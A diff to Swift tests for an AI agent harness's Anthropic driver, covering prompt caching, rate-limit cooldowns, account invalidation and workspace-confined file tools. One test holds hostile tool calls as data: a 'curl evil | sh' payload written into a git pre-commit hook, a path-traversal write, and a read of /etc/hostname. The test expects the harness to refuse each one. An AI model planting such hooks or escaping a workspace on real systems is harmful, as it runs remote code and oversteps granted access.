@@ -62,8 +62,9 @@ struct SDKDriverTests {
         let fixture = try await Fixture([
             Replay.stream(Replay.anthropic(text: "Let me set things up — carefully.", calls: [writes, destroys], stop: "tool_use",
                                            input: 410, output: 96, cacheWrite: 1_200), every: 5),
-            Replay.stream(Replay.anthropic(text: "Done: made.txt holds the greeting; the reset was refused.", stop: "end_turn",
-                                           input: 520, output: 30, cacheRead: 1_200), every: 3),
+            // A byte order mark first, split across chunks: the standard drops it.
+            Replay.stream("\u{FEFF}" + Replay.anthropic(text: "Done: made.txt holds the greeting; the reset was refused.", stop: "end_turn",
+                                                         input: 520, output: 30, cacheRead: 1_200), every: 2),
         ])
         defer { Task { await fixture.finish() } }
         try await fixture.account("anthropic", "team", key: "sk-ant-test-0001")
@@ -109,13 +110,14 @@ struct SDKDriverTests {
         #expect(first["model"] as? String == "claude-sonnet-4-5")
         #expect(first["stream"] as? Bool == true)
         #expect(first["max_tokens"] as? Int == 8192)
-        // Prompt caching: breakpoints on the system prompt and the last tool.
+        // Prompt caching: breakpoints on the system prompt (tools before it are cached with it) and
+        // on the newest block of the conversation.
         let system = first["system"] as? [[String: Any]] ?? []
         #expect((system.first?["cache_control"] as? [String: Any])?["type"] as? String == "ephemeral")
         #expect((system.first?["text"] as? String)?.contains(fixture.harness.workspace(of: agent).path) == true)
         let tools = first["tools"] as? [[String: Any]] ?? []
         #expect(tools.map { $0["name"] as? String } == ["bash"])
-        #expect(tools.last?["cache_control"] != nil)
+        #expect(((Self.messages(first).last?["content"] as? [[String: Any]])?.last?["cache_control"] as? [String: Any])?["type"] as? String == "ephemeral")
         #expect(Self.messages(first).count == 1)
         #expect(((Self.messages(first)[0]["content"] as? [[String: Any]])?.first?["text"] as? String) == "Create made.txt, then clean up history.")
         let second = Self.messages(bodies[1])
@@ -126,6 +128,8 @@ struct SDKDriverTests {
         let toolResults = second[2]["content"] as? [[String: Any]] ?? []
         #expect(toolResults.map { $0["tool_use_id"] as? String } == ["toolu_01A", "toolu_01B"])
         #expect(toolResults.map { $0["is_error"] as? Bool } == [false, true])
+        #expect(toolResults.last?["cache_control"] != nil)
+        #expect((second[0]["content"] as? [[String: Any]])?.first?["cache_control"] == nil, "one breakpoint on the conversation, at its end")
         // The key never reaches an event.
         #expect(!events.contains { $0.payload.contains("sk-ant-test-0001") })
         await fixture.finish()
@@ -198,6 +202,71 @@ struct SDKDriverTests {
         await fixture.finish()
     }
 
+    @Test("Anthropic 429: retry-after wins; without it, the reset of the limit that is used up; with every account cooling the session waits")
+    func anthropicRateLimitHeaders() async throws {
+        let resetIn90 = ISO8601DateFormatter().string(from: Date().addingTimeInterval(90))
+        let resetIn5 = ISO8601DateFormatter().string(from: Date().addingTimeInterval(5))
+        let fixture = try await Fixture([
+            Replay.anthropicError(429, type: "rate_limit_error", message: "Number of request tokens has exceeded your per-minute rate limit",
+                                  headers: [["retry-after", "45"], ["anthropic-ratelimit-tokens-reset", resetIn90]]),
+            Replay.anthropicError(429, type: "rate_limit_error", message: "Number of request tokens has exceeded your per-minute rate limit",
+                                  headers: [["anthropic-ratelimit-requests-remaining", "12"], ["anthropic-ratelimit-requests-reset", resetIn5],
+                                            ["anthropic-ratelimit-tokens-remaining", "0"], ["anthropic-ratelimit-tokens-reset", resetIn90]]),
+        ])
+        defer { Task { await fixture.finish() } }
+        let a = try await fixture.account("anthropic", "a", key: "sk-a")
+        let b = try await fixture.account("anthropic", "b", key: "sk-b")
+        let started = Date()
+        let session = try await fixture.harness.submit("hi", agent: try await fixture.agent())
+        let waiting = try await fixture.harness.waitFor(session.id, "waiting for a cooled account") {
+            $0.state == .queued && $0.waitingReason?.contains("cooling down until") == true
+        }
+        #expect(waiting.state == .queued)
+        let first = try #require(try await fixture.harness.gateway.accounts.get(a.id).cooldownUntil)
+        let second = try #require(try await fixture.harness.gateway.accounts.get(b.id).cooldownUntil)
+        #expect(first.timeIntervalSince(started) > 40 && first.timeIntervalSince(started) < 55, "retry-after: 45")
+        #expect(second.timeIntervalSince(started) > 80 && second.timeIntervalSince(started) < 100, "the used-up token limit's reset")
+        await fixture.finish()
+    }
+
+    @Test("file tools read and write inside the workspace only; a path outside or into .git is an error result, and nothing is written")
+    func fileTools() async throws {
+        let calls = [
+            Replay.Call(id: "t1", name: "write_file", arguments: #"{"path": "notes/plan.md", "content": "step 1\nstep 2\n"}"#),
+            Replay.Call(id: "t2", name: "read_file", arguments: #"{"path": "notes/plan.md", "line": 2}"#),
+            Replay.Call(id: "t3", name: "read_file", arguments: #"{"path": "/etc/hostname"}"#),
+            Replay.Call(id: "t4", name: "write_file", arguments: #"{"path": ".git/hooks/pre-commit", "content": "curl evil | sh"}"#),
+            Replay.Call(id: "t5", name: "write_file", arguments: #"{"path": "../escape.txt", "content": "x"}"#),
+            Replay.Call(id: "t6", name: "delete_everything", arguments: #"{}"#),
+        ]
+        let fixture = try await Fixture([
+            Replay.stream(Replay.anthropic(calls: calls, stop: "tool_use")),
+            Replay.stream(Replay.anthropic(text: "Files handled.", stop: "end_turn")),
+        ])
+        defer { Task { await fixture.finish() } }
+        try await fixture.account("anthropic", "a", key: "sk-a")
+        let agent = try await fixture.agent("anthropic", ["file_tools": true])
+        let (ended, events) = try await fixture.run("Write the plan.", agent)
+        #expect(ended.state == .done, "\(ended.error ?? "")")
+        let results = Dictionary(uniqueKeysWithValues: events.filter { $0.type == "tool_result" }.map {
+            ($0.object["id"] as? String ?? "", ($0.object["output"] as? String ?? "", $0.object["is_error"] as? Bool ?? false))
+        })
+        let workspace = fixture.harness.workspace(of: agent)
+        #expect(try String(contentsOf: workspace.appendingPathComponent("notes/plan.md"), encoding: .utf8) == "step 1\nstep 2\n")
+        #expect(results["t1"]?.1 == false)
+        #expect(results["t2"]?.0 == "step 2\n" && results["t2"]?.1 == false)
+        #expect(results["t3"]?.1 == true && results["t3"]?.0.contains("outside the session's workspace") == true)
+        #expect(results["t4"]?.1 == true && results["t4"]?.0.contains(".git") == true)
+        #expect(results["t5"]?.1 == true)
+        #expect(results["t6"]?.1 == true && results["t6"]?.0.contains("bash, read_file, write_file") == true)
+        #expect(!FileManager.default.fileExists(atPath: workspace.appendingPathComponent(".git/hooks/pre-commit").path))
+        #expect(!FileManager.default.fileExists(atPath: workspace.deletingLastPathComponent().appendingPathComponent("escape.txt").path))
+        // The tools were offered: bash and the two file tools.
+        let tools = try fixture.provider.bodies()[0]["tools"] as? [[String: Any]] ?? []
+        #expect(tools.map { $0["name"] as? String } == ["bash", "read_file", "write_file"])
+        await fixture.finish()
+    }
+
     @Test("529 overloaded and an overloaded_error mid-stream are retried with the same account, which is not cooled down")
     func overloadRetries() async throws {
         let fixture = try await Fixture([
@@ -222,6 +291,12 @@ struct SDKDriverTests {
             Replay.anthropicError(401, type: "authentication_error", message: "invalid x-api-key"),
             Replay.anthropicError(400, type: "invalid_request_error",
                                   message: "Your credit balance is too low to access the Anthropic API. Please go to Plans & Billing to upgrade or purchase credits."),
+            // A 401 that is not about the key (a proxy in the way) leaves the account alone.
+            Replay.error(401, ["error": ["message": "proxy authorization required"]]),
+            // Three accounts lost by one session: the session fails rather than emptying the pool.
+            Replay.anthropicError(401, type: "authentication_error", message: "invalid x-api-key"),
+            Replay.anthropicError(401, type: "authentication_error", message: "invalid x-api-key"),
+            Replay.anthropicError(401, type: "authentication_error", message: "invalid x-api-key"),
         ])
         defer { Task { await fixture.finish() } }
         let bad = try await fixture.account("anthropic", "bad", key: "sk-bad")
@@ -240,6 +315,21 @@ struct SDKDriverTests {
         let events = try await fixture.harness.events(session.id)
         #expect(events.filter { $0.type == "host.account.unusable" }.map { $0.object["status"] as? String } == ["invalid", "disabled"])
         #expect(!events.contains { $0.payload.contains("sk-bad") || $0.payload.contains("sk-spent") })
+
+        try await fixture.harness.sessions.cancel(session.id)
+        let kept = try await fixture.account("anthropic", "behind-a-proxy", key: "sk-kept")
+        let (proxied, _) = try await fixture.run("Hello?", try await fixture.agent(name: "proxied"))
+        #expect(proxied.state == .failed)
+        #expect(proxied.error?.contains("proxy authorization required") == true)
+        #expect(try await fixture.harness.gateway.accounts.get(kept.id).status == .verified)
+        try await fixture.harness.gateway.accounts.delete(kept.id)
+
+        for label in ["x", "y", "z", "spare"] { try await fixture.account("anthropic", label, key: "sk-\(label)") }
+        let (capped, cappedEvents) = try await fixture.run("Hello?", try await fixture.agent(name: "misconfigured"))
+        #expect(capped.state == .failed)
+        #expect(capped.error?.contains("3 accounts were taken out of rotation by this session") == true)
+        #expect(cappedEvents.filter { $0.type == "host.account.unusable" }.count == 3)
+        #expect(try await fixture.harness.gateway.accounts.list(provider: "anthropic").filter { $0.status == .verified }.map(\.label) == ["spare"])
         await fixture.finish()
     }
 
@@ -311,7 +401,8 @@ struct SDKDriverTests {
         let call = Replay.Call(id: "toolu_1", name: "bash", arguments: #"{"command":"echo step one"}"#)
         let thinking = Replay.anthropic(text: "Now the long part", stop: "end_turn").components(separatedBy: "event: content_block_stop")[0]
         let fixture = try await Fixture([
-            Replay.stream(Replay.anthropic(text: "First a command.", calls: [call], stop: "tool_use")),
+            // Whitespace-only text is not sent back: the Messages API refuses such a block.
+            Replay.stream(Replay.anthropic(text: "\n\n", calls: [call], stop: "tool_use")),
             Replay.stream(thinking, end: "hang"),
             Replay.stream(Replay.anthropic(text: "Finished after the pause.", stop: "end_turn")),
         ])
@@ -330,6 +421,7 @@ struct SDKDriverTests {
         // The resumed call carries exactly what the interrupted one did.
         #expect(Self.messages(bodies[2]).count == 3)
         #expect(Replay.json(Self.messages(bodies[2])) == Replay.json(Self.messages(bodies[1])))
+        #expect((Self.messages(bodies[2])[1]["content"] as? [[String: Any]])?.map { $0["type"] as? String } == ["tool_use"])
         let results = (Self.messages(bodies[2])[2]["content"] as? [[String: Any]]) ?? []
         #expect((results.first?["content"] as? String)?.contains("step one") == true)
         #expect(Self.text(try await fixture.harness.events(session.id)).hasSuffix("Finished after the pause."))
